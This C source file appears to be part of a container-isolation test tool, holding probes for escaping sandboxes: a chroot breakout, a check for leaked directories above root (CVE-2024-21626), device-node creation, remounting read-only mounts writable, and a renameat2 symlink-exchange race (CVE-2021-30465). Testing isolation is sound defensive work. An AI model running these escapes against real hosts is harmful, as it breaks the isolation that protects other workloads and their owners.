/* Out of the root, into devices, into the files of the kernel. */
#define _GNU_SOURCE
#include "hostile.h"

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

enum { DEPTH = 64 };

static void climb(void) {
    for (int i = 0; i < DEPTH; i++)
        if (chdir("..") < 0) break;
}

/* roots: whether the working directory, a descriptor or a link of /proc leads above the root (CVE-2024-21626). */
static void find_ways_up(char **arguments) {
    (void)arguments;
    struct stat root, here;
    char directory[PATH_MAX];
    stat("/", &root);
    printf("working directory: %s\n", getcwd(directory, sizeof directory) != NULL ? directory : strerrorname_np(errno));
    climb();
    stat(".", &here);
    printf("above everything: %s\n", here.st_dev == root.st_dev && here.st_ino == root.st_ino ? "the root" : "more");
    for (int fd = 0; fd < 1024; fd++)
        if (fstat(fd, &here) == 0 && S_ISDIR(here.st_mode)) printf("descriptor %d: a directory\n", fd);
}

/* chroot FILE: the way out of a chroot(2) that needs CAP_SYS_CHROOT: a working directory outside of the new root. */
static void leave_chroot(char **arguments) {
    char file[PATH_MAX];
    mkdir("/tmp/below", 0755);
    if (tell("chroot", chroot("/tmp/below")) < 0) return;
    climb();
    snprintf(file, sizeof file, ".%s", arguments[0]);
    tell("a file of the host", access(file, F_OK));
}

/* open PATH...: for reading and for writing. Nothing is read or written. */
static void open_paths(char **arguments) {
    char what[PATH_MAX + 16];
    for (char **path = arguments; *path != NULL; path++) {
        snprintf(what, sizeof what, "read %s", *path);
        close((int)tell(what, open(*path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC)));
        snprintf(what, sizeof what, "write %s", *path);
        close((int)tell(what, open(*path, O_WRONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC)));
    }
}

/* nodes DIRECTORY...: makes a device (zero, which harms nobody) in each, and opens it. */
static void make_nodes(char **arguments) {
    char path[PATH_MAX], what[PATH_MAX + 16];
    for (char **directory = arguments; *directory != NULL; directory++) {
        snprintf(path, sizeof path, "%s/node", *directory);
        unlink(path);
        snprintf(what, sizeof what, "make %s", path);
        if (tell(what, mknod(path, S_IFCHR | 0666, makedev(1, 5))) < 0) continue;
        snprintf(what, sizeof what, "open %s", path);
        close((int)tell(what, open(path, O_RDONLY | O_CLOEXEC)));
        unlink(path);
    }
}

/* remount PATH...: takes the read-only flag off mounts. */
static void remount_paths(char **arguments) {
    char what[PATH_MAX + 16];
    for (char **path = arguments; *path != NULL; path++) {
        snprintf(what, sizeof what, "remount %s", *path);
        tell(what, mount(NULL, *path, NULL, MS_REMOUNT | MS_BIND, NULL));
    }
}

/* mount DIRECTORY: mounts something there, having made it shared as far as that is possible. */
static void mount_inside(char **arguments) {
    tell("make it shared", mount(NULL, arguments[0], NULL, MS_SHARED | MS_REC, NULL));
    tell("mount", mount("tmpfs", arguments[0], "tmpfs", 0, NULL));
}

/* follow TARGET: mounts as a careless runtime does, by path. */
static void mount_by_path(char **arguments) {
    tell("mount", mount("tmpfs", arguments[0], "tmpfs", 0, NULL));
    tell(arguments[1], access(arguments[1], F_OK));
}

/*
 * exchange DIRECTORY TARGET: CVE-2021-30465: its `x` is a directory one moment and a link to TARGET the next, for ever.
 */
static void exchange(char **arguments) {
    int directory = open(arguments[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    mkdirat(directory, "x", 0755);
    tell("link", symlinkat(arguments[1], directory, "y"));
    alarm(0);
    for (long round = 0;; round++) {
        long done = renameat2(directory, "x", directory, "y", RENAME_EXCHANGE);
        if (round == 0) tell("exchange", done);
    }
}

const struct named_act file_acts[] = {
    {"roots", find_ways_up},   {"chroot", leave_chroot},   {"open", open_paths},
    {"nodes", make_nodes},     {"remount", remount_paths}, {"mount", mount_inside},
    {"follow", mount_by_path}, {"exchange", exchange},     {NULL, NULL},
};
